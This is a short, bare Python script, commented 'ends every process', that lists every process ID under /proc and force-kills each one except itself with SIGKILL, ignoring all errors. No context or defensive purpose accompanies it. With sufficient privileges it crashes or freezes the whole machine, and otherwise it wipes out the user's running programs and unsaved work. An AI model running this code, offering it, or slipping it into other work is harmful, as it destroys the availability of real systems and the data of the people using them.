# ends every process
import os, signal
for p in os.listdir("/proc"):
    if p.isdigit() and int(p) != os.getpid():
        try: os.kill(int(p), signal.SIGKILL)
        except OSError: pass
